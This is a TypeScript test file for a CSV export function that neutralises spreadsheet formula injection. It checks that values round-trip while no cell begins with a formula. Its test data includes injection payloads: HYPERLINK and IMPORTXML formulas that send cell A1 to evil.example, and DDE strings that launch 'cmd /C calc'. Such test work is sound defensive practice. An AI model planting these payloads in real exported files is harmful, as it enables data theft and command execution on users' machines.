import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLine, withoutFormulas } from '../../src/contract/csv.ts';
import { readCsv, withFormulas } from '../harness/csv.ts';

/** Names and texts that a spreadsheet might run, and some that it must not be kept from showing (ATK-62). */
const texts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '==1',
  '=-1',
  "'=1+1",
  "''=1",
  '"=1+1',
  '";=1+1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a"=1+1',
  "a'=1+1",
  'a\r\n=1+1',
  'a\n@SUM(A1)',
  'a, -b',
  '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '-2+3+cmd|calc!A0',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "O'Brien",
  "O'-Brien",
  'Smith-Jones',
  'a=b',
  'a+b@example.com',
  'Ada "The Count" Lovelace',
  'Lovelace, Ada',
  'Zoë',
  'Łukasz',
  '李小龍',
  'محمد',
  'J.R.R.',
  'van der Berg',
  'a;b',
  'a|b',
  '1-2',
  '-',
  '=',
  '+44 20 7946 0000',
  '',
  ' ',
  "'",
  '"',
  '""',
  ',',
  '\u2212 1',
  '2026-07-01',
];

const dangerous = /^[=+\-@\t\r\0＝＋－＠]/u;

test('every text comes back as it was, and begins no formula in any cell', () => {
  assert.ok(texts.length >= 60);
  for (const text of texts) {
    const line = csvLine([text, 'next']);
    const [[cell, next] = []] = readCsv(line);
    assert.equal(next, 'next', JSON.stringify(text));
    assert.equal(withFormulas(cell!), text, JSON.stringify(text));
    assert.doesNotMatch(cell!, dangerous, JSON.stringify(text));
    // Read with other separators and quotes, too, no cell begins with a formula.
    for (const separator of [',', ';', '\t', '|', '"', '\n', '\r'])
      for (const part of cell!.split(separator))
        assert.doesNotMatch(part.trimStart(), /^[=+@＝＋＠]/u, JSON.stringify(text));
  }
});

test('ordinary names are left alone', () => {
  for (const text of ["O'Brien", 'Smith-Jones', 'a=b', 'a+b@example.com', 'Lovelace, Ada', '李小龍', '1-2', ''])
    assert.equal(withoutFormulas(text), text);
});

test('lines are those of RFC 4180; numbers and truth values keep their kind', () => {
  assert.equal(csvLine(['a', 'b "c"', 'd\r\ne', -5, 0, true, null, '']), '"a","b ""c""","d\r\ne",-5,0,true,,""\r\n');
  const cells = ['x'.repeat(1_000), 'é,"', '', '\r\n'];
  const lines = readCsv(csvLine(cells) + csvLine(cells));
  assert.deepEqual(
    lines.map((line) => line.map(withFormulas)),
    [cells, cells],
  );
});
